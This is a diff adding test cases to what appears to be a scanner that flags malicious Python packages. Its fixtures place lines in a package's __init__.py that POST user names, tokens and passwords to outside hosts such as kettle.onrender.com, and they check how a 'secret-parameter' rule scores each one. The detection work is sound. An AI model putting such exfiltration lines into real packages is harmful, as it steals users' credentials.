@@ -344,3 +344,37 @@ test.each([
 
   expect(findings.filter(({ score }) => score > 1)).toMatchObject(expected);
 });
+
+test.each([
+  [
+    'its secrets by their names to a host that anybody opens',
+    "requests.post('https://kettle.onrender.com', data={'content': f'User: {user}\\nToken: {mark}\\nPass: {sign}'})",
+    [{ class: 'malware', score: 10 }],
+  ],
+  [
+    'one of them',
+    "requests.post('https://kettle.onrender.com', data={'content': f'User: {user}\\n**Password:** {sign}'})",
+    [{ class: 'suspicious', score: 6 }],
+  ],
+  [
+    'them to a house with a name',
+    "requests.post('https://api.kettle.invalid', data=f'Token: {mark} Pass: {sign}')",
+    [],
+  ],
+  [
+    'other things',
+    "requests.post('https://kettle.onrender.com', data=f'User: {user}\\nPassed: {sign}\\nMarks: {mark}')",
+    [],
+  ],
+])('a message that tells %s', async (_what, line, expected) => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import requests',
+      'class Embed:',
+      '    def __init__(self, user, mark, sign):',
+      `        ${line}`,
+    ),
+  });
+
+  expect(await inspect('secret-parameter', file)).toMatchObject(expected);
+});
